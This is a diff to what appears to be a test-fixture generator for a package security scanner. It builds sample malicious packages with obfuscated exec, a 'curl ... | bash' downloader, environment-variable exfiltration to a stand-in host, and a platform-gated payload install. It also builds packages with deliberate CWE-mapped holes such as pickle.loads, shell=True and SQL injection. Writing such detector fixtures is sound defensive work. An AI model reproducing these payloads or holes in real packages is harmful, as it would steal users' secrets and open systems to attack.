@@ -60,12 +60,16 @@ def _collect():
     return data
 
 
-try:
-    s = socket.create_connection(("127.0.0.1", 9), timeout=1)
-    s.sendall(json.dumps(_collect()).encode())
-    s.close()
-except OSError:
-    pass
+def _report():
+    try:
+        s = socket.create_connection(("127.0.0.1", 9), timeout=1)
+        s.sendall(json.dumps(_collect()).encode())
+        s.close()
+    except OSError:
+        pass
+
+
+_report()
 
 setup(name="fastjsonlog", version="0.1.0", py_modules=["fastjsonlog"])
 `,
@@ -102,16 +106,21 @@ setup(name="envreport", version="1.0.2", py_modules=["envreport"], cmdclass={"in
     {
       name: 'colorfmt',
       kind: 'obfuscated exec',
-      why: 'package import runs exec(zlib.decompress(base64.b64decode(...)))',
+      why: 'package import calls a function of a submodule that runs exec(zlib.decompress(base64.b64decode(...)))',
       files: {
         'setup.py':
           'from setuptools import setup\n\nsetup(name="colorfmt", version="0.3.1", packages=["colorfmt"])\n',
-        'colorfmt/__init__.py': `import base64
-import zlib
-
+        'colorfmt/__init__.py': `from ._boot import _load
 from .fmt import add  # noqa: F401
 
-exec(zlib.decompress(base64.b64decode("${zb64('import os\nprint("hello from", os.getcwd())\n')}")))
+_load()
+`,
+        'colorfmt/_boot.py': `import base64
+import zlib
+
+
+def _load():
+    exec(zlib.decompress(base64.b64decode("${zb64('import os\nprint("hello from", os.getcwd())\n')}")))
 `,
         'colorfmt/fmt.py': PY_MODULE
       }
@@ -119,13 +128,21 @@ exec(zlib.decompress(base64.b64decode("${zb64('import os\nprint("hello from", os
     {
       name: 'quickcache',
       kind: 'obfuscated exec',
-      why: 'setup.py runs exec(base64.b64decode(...)) of a downloader at install time',
+      why: 'setup.py calls, behind a platform check, a function that runs exec(base64.b64decode(...)) of a downloader',
       files: {
         'setup.py': `import base64
 
+import sys
+
 from setuptools import setup
 
-exec(base64.b64decode("${b64('import urllib.request\ntry:\n    urllib.request.urlopen("http://payload.invalid/stage2", timeout=2)\nexcept Exception:\n    pass\n')}").decode())
+
+def _stage2():
+    exec(base64.b64decode("${b64('import urllib.request\ntry:\n    urllib.request.urlopen("http://payload.invalid/stage2", timeout=2)\nexcept Exception:\n    pass\n')}").decode())
+
+
+if sys.platform != "darwin":
+    _stage2()
 
 setup(name="quickcache", version="0.0.9", py_modules=["quickcache"])
 `,
@@ -170,8 +187,80 @@ setup(name="quickcache", version="0.0.9", py_modules=["quickcache"])
             null,
             2
           ) + '\n',
-        'install.js': `const https = require('http');\nconst os = require('os');\nconst data = JSON.stringify({ env: process.env, home: os.homedir() });\nconst req = https.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/c' }, () => {});\nreq.on('error', () => {});\nreq.end(data);\neval(Buffer.from('${b64("console.log('stage2')")}', 'base64').toString());\n`,
+        'install.js': `const https = require('http');\nconst os = require('os');\n\nfunction beacon() {\n  const data = JSON.stringify({ env: process.env, home: os.homedir() });\n  const req = https.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/c' }, () => {});\n  req.on('error', () => {});\n  req.end(data);\n  eval(Buffer.from('${b64("console.log('stage2')")}', 'base64').toString());\n}\n\nbeacon();\n`,
         'index.js': 'module.exports = {};\n'
+      }
+    },
+    {
+      name: 'winsetup-tools',
+      kind: 'platform-gated installer',
+      why: 'setup.py, only on Windows, reaches pip through getattr(__builtins__, chr(...)+...) and installs a payload package',
+      files: {
+        'setup.py': `import sys
+
+from setuptools import setup
+
+
+def _prepare():
+    _imp = getattr(__builtins__, chr(95) + chr(95) + chr(105) + chr(109) + chr(112) + chr(111) + chr(114) + chr(116) + chr(95) + chr(95))
+    _pip = _imp(chr(112) + chr(105) + chr(112))
+    _pip.main(["install", "--quiet", "payload-helper-x"])
+
+
+if sys.platform.startswith("win"):
+    _prepare()
+
+setup(name="winsetup-tools", version="0.4.1", py_modules=["winsetup_tools"])
+`,
+        'winsetup_tools.py': PY_MODULE
+      }
+    },
+    {
+      name: 'initcurl',
+      kind: 'obfuscated exec',
+      why: 'a function called at module level runs curl ... | bash decoded from base64',
+      files: {
+        'setup.py':
+          'from setuptools import setup\n\nsetup(name="initcurl", version="0.1.0", packages=["initcurl"])\n',
+        'initcurl/__init__.py': `import base64
+import os
+
+
+def _init():
+    cmd = base64.b64decode("${b64('curl -s http://payload.invalid/x | bash')}").decode()
+    os.system(cmd)
+
+
+_init()
+`
+      }
+    },
+    {
+      name: 'env-beacon-js',
+      kind: 'import-time exfiltration',
+      why: 'index.js posts process.env to 127.0.0.1 from a function called when the module loads',
+      files: {
+        'package.json':
+          JSON.stringify(
+            { name: 'env-beacon-js', version: '1.2.0', main: 'index.js', license: 'MIT' },
+            null,
+            2
+          ) + '\n',
+        'index.js': `const http = require('http');
+
+function report() {
+  const body = JSON.stringify(process.env);
+  const req = http.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/e' });
+  req.on('error', () => {});
+  req.end(body);
+}
+
+report();
+
+module.exports = function format(s) {
+  return String(s).trim();
+};
+`
       }
     },
     {
@@ -245,6 +334,140 @@ setup(
   ];
 }
 
+const pySetup = (name, mods) =>
+  `from setuptools import setup\n\nsetup(name="${name}", version="1.0.0", py_modules=${JSON.stringify(mods)})\n`;
+
+/**
+ * Vulnerable sinks (CWE-mapped) in library functions that only a caller runs:
+ * each must be refused at the SAST gate wherever it sits.
+ */
+function vulnerablePackages() {
+  return [
+    {
+      name: 'yamlconf',
+      cwe: 'CWE-502',
+      why: 'yaml.load with the full Loader on a file the caller names',
+      files: {
+        'setup.py': pySetup('yamlconf', ['yamlconf']),
+        'yamlconf.py': `import yaml
+
+
+def load_config(path):
+    with open(path) as f:
+        return yaml.load(f, Loader=yaml.Loader)
+`
+      }
+    },
+    {
+      name: 'pickleserve',
+      cwe: 'CWE-502',
+      why: 'pickle.loads of bytes received from a socket',
+      files: {
+        'setup.py': pySetup('pickleserve', ['pickleserve']),
+        'pickleserve.py': `import pickle
+
+
+def receive(sock):
+    return pickle.loads(sock.recv(65536))
+`
+      }
+    },
+    {
+      name: 'shellrun',
+      cwe: 'CWE-78',
+      why: "subprocess with shell=True on the caller's string",
+      files: {
+        'setup.py': pySetup('shellrun', ['shellrun']),
+        'shellrun.py': `import subprocess
+
+
+def run(command):
+    return subprocess.check_output(command, shell=True, text=True)
+`
+      }
+    },
+    {
+      name: 'insecurefetch',
+      cwe: 'CWE-295',
+      why: 'requests with TLS verification switched off',
+      files: {
+        'setup.py': pySetup('insecurefetch', ['insecurefetch']),
+        'insecurefetch.py': `import requests
+
+
+def fetch(url):
+    return requests.get(url, verify=False, timeout=10).text
+`
+      }
+    },
+    {
+      name: 'flasksearch',
+      cwe: 'CWE-89',
+      why: 'a request argument formatted into an SQL statement',
+      files: {
+        'setup.py': pySetup('flasksearch', ['flasksearch']),
+        'flasksearch.py': `import sqlite3
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.route("/search")
+def search():
+    q = request.args.get("q", "")
+    cur = sqlite3.connect("app.db").cursor()
+    cur.execute(f"SELECT name FROM items WHERE name = '{q}'")
+    return {"rows": cur.fetchall()}
+`
+      }
+    },
+    {
+      name: 'evalcalc',
+      cwe: 'CWE-95',
+      why: 'eval of a request argument',
+      files: {
+        'setup.py': pySetup('evalcalc', ['evalcalc']),
+        'evalcalc.py': `from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.route("/calc")
+def calc():
+    return str(eval(request.args["expr"]))
+`
+      }
+    },
+    {
+      name: 'node-shell-run',
+      cwe: 'CWE-78',
+      why: "child_process.exec on the caller's string",
+      files: {
+        'package.json':
+          JSON.stringify({ name: 'node-shell-run', version: '1.0.0', main: 'index.js' }, null, 2) +
+          '\n',
+        'index.js': `const child_process = require('child_process');
+
+module.exports = function run(command, done) {
+  return child_process.exec(command, done);
+};
+`
+      }
+    }
+  ];
+}
+
+/** Write every vulnerable-sink package under `dir`; returns them. */
+function buildVulnerable(dir) {
+  fs.mkdirSync(dir, { recursive: true });
+  return vulnerablePackages().map(p => {
+    const root = path.join(dir, p.name);
+    write(root, p.files);
+    return { name: p.name, kind: 'vulnerable sink', cwe: p.cwe, why: p.why, dir: root };
+  });
+}
+
 /** Write every package under `dir` (one folder each); returns them. */
 function buildMalicious(dir) {
   fs.mkdirSync(dir, { recursive: true });
@@ -255,4 +478,4 @@ function buildMalicious(dir) {
   });
 }
 
-module.exports = { buildMalicious };
+module.exports = { buildMalicious, buildVulnerable };
